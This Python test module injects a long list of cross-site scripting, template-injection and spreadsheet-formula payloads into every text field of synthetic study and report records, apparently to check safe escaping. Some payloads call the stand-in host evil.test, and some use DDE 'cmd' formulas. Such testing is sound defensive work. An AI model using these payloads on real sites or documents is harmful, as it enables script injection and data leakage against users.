"""Texts that would run as script, markup or formula, and a study that carries them everywhere."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from typing import Any

from core.measurement import unavailable
from core.report import Report
from core.study import KernelCalls, Study, Trial

J = "window.__ran=1;alert(1)"
E = "http://evil.test/x.png"
PAYLOADS = (
    f"<script>{J}</script>", f"<ScRiPt>{J}</sCrIpT>", f"</script><script>{J}</script>",
    f"</title><script>{J}</script>", f"</textarea><script>{J}</script>",
    f"</style><script>{J}</script>", f"--><script>{J}</script>", f"]]><script>{J}</script>",
    f"<script src={E}></script>", f"<script type=module>{J}</script>", f"<scr<script>ipt>{J}",
    f"<img src=x onerror={J!r}>", f"<img src=x onerror='{J}'//", f"<img/src='x'/onerror='{J}'>",
    f"<IMG \"\"\"><SCRIPT>{J}</SCRIPT>\">", f"<img src={E}>", f"<image src=x onerror='{J}'>",
    f"<svg onload='{J}'>", f"<svg><script>{J}</script></svg>", f"<svg/onload='{J}'//",
    f"<svg><animate onbegin='{J}' attributeName=x dur=1s>", f"<body onload='{J}'>",
    f"<iframe srcdoc=\"<script>parent.__ran=1;{J}</script>\"></iframe>",
    f"<iframe src='javascript:{J}'></iframe>", f"<object data='javascript:{J}'></object>",
    f"<embed src='data:text/html,<script>{J}</script>'>", f"<video src=x onerror='{J}'></video>",
    f"<audio src=x onerror='{J}'></audio>", f"<details open ontoggle='{J}'>x</details>",
    f"<input autofocus onfocus='{J}'>", f"<select autofocus onfocus='{J}'></select>",
    f"<marquee onstart='{J}'>x</marquee>", f"<style>@import '{E}';</style>",
    f"<div style=\"background:url('{E}')\">x</div>", f"<link rel=stylesheet href={E}>",
    f"<meta http-equiv=refresh content='0;url={E}'>", "<base href=http://evil.test/>",
    f"<form action={E}><button>x</button></form>", f"<math href='javascript:{J}'>x</math>",
    f"<a href='javascript:{J}'>x</a>", f"<a href='jav&#x09;ascript:{J}'>x</a>",
    f"<p onmouseover='{J}' style='position:fixed;inset:0'>x</p>", f"\"onmouseover='{J}' x=\"",
    f"'><script>{J}</script>", f"\"><script>{J}</script>", f"`><script>{J}</script>",
    f"'-({J.replace(';', ',')})-'", f"\\\";{J};//", f"${{{J.replace(';', ',')}}}",
    "{{ 7 * 7 }}{% raw %}", "{{ ''.__class__.__mro__ }}", f"#{{{J}}}", f"<%= {J} %>",
    f"[x](javascript:{J})", f"![x]({E})", f"[x]: {E}\n[x]", f"<javascript:{J}>", f"<{E}>",
    f"[x](data:text/html,<script>{J}</script>)", f"![x](x\"onerror=\"{J})",
    f"**b** `c` | d |\n|---|---|\n<script>{J}</script>", f"# h\n\n<script>{J}</script>",
    f"```\n</code><script>{J}</script>", f"$\\href{{javascript:{J}}}{{x}}$",
    f"$\\htmlData{{a=b\" onmouseover=\"{J}}}{{x}}$", ":red[x] :material/home: :rainbow[x]",
    f"&lt;script&gt;{J}&lt;/script&gt;", f"&#60;script&#62;{J}&#60;/script&#62;",
    f"\\u003cscript\\u003e{J}\\u003c/script\\u003e", f"%3Cscript%3E{J}%3C/script%3E",
    f"\u2028<script>{J}</script>", f"\x00<scr\x00ipt>{J}</script>", f"\u202e<script>{J}</script>",
    "=1+1", "=HYPERLINK(\"http://evil.test/\",\"x\")", "=cmd|' /C calc'!A0", "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1",
    "=IMPORTXML(\"http://evil.test/\",\"//a\")", "%0A=1+1", "\"=1+1\"", "x\",=1+1",
)  # fmt: skip
FIELDS = (
    "model id", "model title", "model origin", "model revision", "target title", "target source",
    "workload title", "workload note", "study reason", "trial reason", "trial note", "method",
    "environment fact", "environment key", "kernel op", "kernel name", "report title",
    "report note", "why unavailable", "trial reason of a refused one", "environment id",
)  # fmt: skip
Pick = Callable[[str], str]


def picker(number: int) -> Pick:
    """What stands in each field of the study `number`: no two studies put the same text there."""
    return lambda field: PAYLOADS[(number * len(FIELDS) + FIELDS.index(field)) % len(PAYLOADS)]


def pairs(studies: int) -> int:
    """How many different pairs of payload and field that many studies hold."""
    return len({(field, picker(n)(field)) for n in range(studies) for field in FIELDS})


def hostile(study: Study, number: int) -> Study:
    """`study` under the id `s-hostile-<number>` with a payload in every text that a store keeps."""
    pick = picker(number)
    case = replace(
        study.case,
        model=replace(study.case.model, id=pick("model id"), title=pick("model title"),
                      origin=pick("model origin"), revision=pick("model revision")),
        target=replace(study.case.target, title=pick("target title"), source=pick("target source")),
        workload=replace(study.case.workload, title=pick("workload title"),
                         note=pick("workload note")),
    )  # fmt: skip
    trials = tuple(_trial(one, f"s-hostile-{number}", number, pick) for one in study.trials)
    trials = tuple(replace(one, plan=replace(one.plan, case=case)) for one in trials)
    return replace(study, id=f"s-hostile-{number}", case=case, reason=pick("study reason"),
                   trials=trials)  # fmt: skip


def _trial(trial: Trial, study_id: str, number: int, pick: Pick) -> Trial:
    refused = trial.state == "refused"
    reason = pick("trial reason of a refused one" if refused else "trial reason")
    measurements = tuple(
        unavailable(one.metric, one.unit, pick("why unavailable"), pick("environment id"))
        if one.origin == "unavailable"
        else replace(one, method=pick("method"), environment=pick("environment id"))
        for one in trial.measurements
    )
    kernels = tuple(
        KernelCalls(pick("kernel op"), pick("kernel name"), one.calls) for one in trial.kernels
    )
    return replace(
        trial, id=f"{trial.id}-{number}", study_id=study_id, notes=(pick("trial note"),),
        reason=reason if trial.reason else "", measurements=measurements, kernels=kernels,
    )  # fmt: skip


def facts(number: int) -> dict[str, Any]:
    """The facts of the study's environment."""
    pick = picker(number)
    return {"cpu": pick("environment fact"), pick("environment key"): ["x", 2], "cores": 2}


def report_of(study: Study, number: int) -> Report:
    """A saved comparison of the hostile study."""
    pick = picker(number)
    assert study.baseline is not None
    done = tuple(trial.id for trial in study.done())
    known = ((pick("environment id"), json.dumps(facts(number))),)
    return Report(f"r-hostile-{number}", 1, pick("report title"), study, done, study.baseline.id,
                  "2026-11-21T10:30:00.000", pick("report note"), known)  # fmt: skip
